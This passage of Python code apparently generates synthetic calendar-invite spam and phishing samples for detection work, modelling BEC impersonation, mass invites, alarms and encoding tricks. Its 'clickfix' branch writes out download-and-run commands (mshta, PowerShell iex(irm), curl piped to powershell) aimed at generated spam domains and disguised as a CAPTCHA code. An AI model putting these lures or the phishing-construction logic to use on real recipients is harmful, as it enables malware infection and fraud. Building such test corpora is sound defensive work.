    "weekly_forever": dict(rrule="FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR,SA,SU", alarms=[dict(trigger="-PT0M", description="Напоминание", repeat=10, rduration="PT1M")]),
}

VEC_DEFAULT = {"gcal": 4, "esp": 2, "look": 2, "free_other": 2, "outlookcom": 2, "icloud": 1, "yahoo": 1, "spoof": 1, "php": 1, "m365t": 1}


def make(label, cat, idx, e, cfg, rng):
    years = e.get("y") or cfg.get("y", (2016, 2026))
    m = new_msg(label, cat, idx, e["l"], rng, years, e.get("mo"))
    vec = e.get("v") or choose(rng, cfg.get("vec", VEC_DEFAULT))
    if cat == "compromised-share":
        vec = "compromised"
    setup_sender(m, vec, e)
    if e.get("dkimd"):
        m.dkim_domain = e["dkimd"]
    m.link = make_link(m, e) if e.get("link", 1) is not None else ""
    if e.get("file"):
        m.link = m.link.rstrip("/") + "/" + e["file"] if not m.link.endswith(".html") else m.link
    m.phone = phone_for(rng, m.lang) if m.lang != "en" else phone(rng, rng.choice(["us", "us", "us", "uk"]))
    extra = dict(wa=lambda s: wa_number(rng), rlast=lambda s: m.rcpt.last, rcptorg=lambda s: "Example Net")
    # event shape
    days = rng.choice([(0, 2), (1, 5), (0, 0), (1, 14)])
    ev = event(m, days=days, hour=(6, 22), dur=rng.choice([(15, 30), (60,), (30, 60, 120), (1440,)]))
    body = fill(m, e["b"], **extra)
    subj = fill(m, e["s"], **extra)
    summ = fill(m, e.get("t"), **extra) or subj
    if rng.random() < 0.25 and cat not in ("bec-fraud",):
        summ = rng.choice([summ, summ.upper(), "\u2705 " + summ, "\U0001F381 " + summ, "\u26a0\ufe0f " + summ, "[%s] %s" % (alnum(rng, 5, "0123456789"), summ)])
    ev["summary"] = summ
    ev["description"] = body
    org_name = m.from_name
    if cat == "bec-fraud":
        # an executive of the receiving organisation is impersonated
        if not m.from_name:
            boss = person(rng, m.lang)
            org_name = m.from_name = boss.display
        ev["summary"] = subj
    body = fill(m, e["b"], **extra)  # re-fill so {sname} is right
    ev["description"] = body
    if e.get("clickfix"):
        cmd = rng.choice(['mshta %s' % ("https://" + spam_domain(rng, ["cdn", "verify", "cap"]) + "/" + alnum(rng, 6)),
                          'powershell -w h -nop -c "iex(irm %s)"' % ("https://" + spam_domain(rng, ["check", "human", "cf"]) + "/v"),
                          'cmd /c curl -s %s | powershell -' % ("https://" + spam_domain(rng, ["verify", "robot"]) + "/s.txt")])
        ev["description"] = body + "\n\n" + {"en": "Verification code: ", "fr": "Code de vérification : "}.get(m.lang, "Code: ") + cmd + "  # I am not a robot - reCAPTCHA ID " + alnum(rng, 6)
        body = ev["description"]
    ev["organizer"] = org(org_name or m.from_addr, m.from_addr)
    ev["attendees"] = [attendee(m.rcpt_name, m.rcpt_addr, partstat="NEEDS-ACTION", rsvp="TRUE")]
    ev["status"] = "CONFIRMED"
    m.text = body
    m.subject = subj if (rng.random() < 0.7 or m.client not in ("gcal", "icloudweb")) else None
    x = set(e.get("x", set()))
    # obfuscation on location / url etc
    if "locurl" in x:
        ev["location"] = m.link
    elif rng.random() < 0.3 and m.link:
        ev["location"] = rng.choice([m.link, "Online", "Zoom", "Click here: " + m.link, ""])
    if "conf" in x:
        ev["conference_lines"] = ["CONFERENCE;VALUE=URI;FEATURE=VIDEO;LABEL=Join:" + m.link]
        ev["url"] = m.link
    if "attach" in x:
        fn = rng.choice(["Invoice.pdf", "Document.html", "Remittance.htm", "Scan_%s.pdf" % alnum(rng, 5, "0123456789")])
        ev["attach_lines"] = ["ATTACH;FMTTYPE=application/pdf:" + m.link if rng.random() < 0.5 else "ATTACH;FMTTYPE=text/html;X-FILENAME=%s:%s" % (fn, m.link)]
    if rng.random() < 0.2 and m.link and "url" not in ev:
        ev["url"] = m.link
    if "altdesc" in x and m.client in ("gcal", "icloudweb", "yahoo"):
        # calendar web UIs cannot emit X-ALT-DESC: the spammer hand-crafts the .ics and sends it through the same provider's SMTP
        m.client = rng.choice(["icsonly", "python", "nodemailer", "bare"])
        if m.infra == "gcal":
            m.infra = "gmail" if m.from_addr.endswith("@gmail.com") else "gworkspace"
            m.envelope_from = m.from_addr
    if m.client == "gcal":
        ev.pop("conference_lines", None)
        ev.pop("url", None)
    if "altdesc" in x:
        html = "<html><body><p>%s</p><p><a href=\"%s\">%s</a></p></body></html>" % (body.replace("\n", "<br>").replace(m.link, ""), m.link, m.link) if m.link else "<html><body><p>%s</p></body></html>" % body.replace("\n", "<br>")
        ev["x_alt_desc"] = html
        ev["description"] = rng.choice(["", " ", summ])
        m.text = rng.choice(["", None]) if m.client not in ("gcal",) else ""
    if "alarm" in x or rng.random() < 0.35:
        ev["alarms"] = [dict(trigger=rng.choice(["-PT15M", "-PT5M", "-PT30M", "-P1D", "-PT1H"]), description=rng.choice(["Reminder", "REMINDER", summ[:40]]))]
    if e.get("nag"):
        shape = NAG_SHAPES[e["nag"]]
        if shape["rrule"]:
            ev["rrule"] = shape["rrule"]
        ev["alarms"] = [dict(a) for a in shape["alarms"]]
        if e["nag"] == "far_future":
            y = rng.choice([2037, 2049, 2099, 2050])
            ev["start"] = ev["start"].replace(year=y)
            ev["end"] = ev["end"].replace(year=y)
        if e["nag"] in ("hourly",):
            ev["end"] = ev["start"] + dt.timedelta(minutes=5)
    elif rng.random() < 0.1:
        ev["rrule"] = rng.choice(["FREQ=DAILY;COUNT=30", "FREQ=WEEKLY", "FREQ=DAILY;INTERVAL=2"])
    align_rrule(ev)
    if e.get("mass"):
        n = e["mass"] + rng.randint(-5, 5)
        others = []
        for i in range(n):
            pl = person(rng, rng.choice(["en", "en", m.lang, "de", "fr", "es", "zh", "pt"]))
            dom = rng.choice(["gmail.com", "yahoo.com", "hotmail.com", "icloud.com", "outlook.com", "aol.com", "example.net", "post.example", "inbox.example", "mail.ru", "qq.com"])
            others.append(attendee(None if rng.random() < 0.5 else pl.latin, "%s%s%s@%s" % (pl.first_lat, rng.choice([".", "", "_"]), pl.last_lat + (str(rng.randint(1, 999)) if rng.random() < 0.5 else ""), dom), rsvp="TRUE"))
        pos = rng.randint(0, len(others))
        ev["attendees"] = others[:pos] + ev["attendees"] + others[pos:]
        m.to = [(None, a["email"]) for a in ev["attendees"][:rng.randint(1, 6)]] if rng.random() < 0.5 else m.to
        if (None, m.rcpt_addr) not in m.to and (m.rcpt_name, m.rcpt_addr) not in m.to:
            m.cc = []  # recipient was Bcc'd
        if e.get("yahoocancel"):
            ev["method"] = "CANCEL"
            m.ct_method = "REQUEST"
            ev["sequence"] = rng.randint(45, 2296)
            ev["organizer"] = org(m.from_name, m.from_addr, sent_by=freemail_sender(m, rng.choice(["gmail.com", "outlook.com"]), style="rand")[1])
            ev["alarms"] = [dict(trigger="-PT30M", description="Reminder")]
            ev["status"] = "CANCELLED"
            m.subject = subj
            m.envelope_from = "do-not-reply@yahoo.com"
    if e.get("polished") and m.link and m.client not in ("bare", "icsonly", "gcal", "icloudweb", "yahoo"):
        m.html = button_html(m, body.replace(m.link, "").replace("\n\n\n", "\n\n"), m.link, e["polished"])
    if "icsonly" in x or (m.client == "icsonly"):
        m.client = "icsonly"
        m.text = rng.choice([None, "", " ", "Please see the attached invitation.", "Invitation", "\u200b"])
    # sometimes the sender is lazy with date/tz
    if rng.random() < 0.15:
        ev["tzmode"] = "floating" if rng.random() < 0.5 else "utc"
    if m.lang != "en" and rng.random() < 0.7:
        m.hcs = rng.choice(LANG[m.lang]["cs"] + ["utf-8"])
        m.cs = m.hcs
    if (cat, idx) in FORCE_CS:
        cs, cl = FORCE_CS[(cat, idx)]
        m.cs = m.hcs = cs
        if cl:
            m.client = cl
            if cl == "icsonly" and not m.text:
                m.text = body
    if rng.random() < 0.08:
        m.raw8 = True
    m.hmode = "B" if rng.random() < 0.6 else "Q"
    m.cte = rng.choice(["quoted-printable", "base64", "8bit", "7bit"])
    return m


# a few messages pinned to the legacy charset (and a client that honours it) their senders typically use
FORCE_CS = {("crypto-invest", 6): ("koi8-r", "python"), ("phish-brand", 15): ("koi8-r", "icsonly"), ("retail-sale", 9): ("shift_jis", "java"),
            ("compromised-share", 11): ("gb2312", None), ("crypto-invest", 9): ("euc-kr", "python"), ("fake-update", 10): ("koi8-u", None),
            ("dating-sextortion", 10): ("iso-2022-jp", "icsonly"), ("advance-fee", 10): ("windows-1256", None)}


def items():
    for cat, entries, cfg in CATS:
        for i, e in enumerate(entries, 1):
            yield cat, i, e, cfg
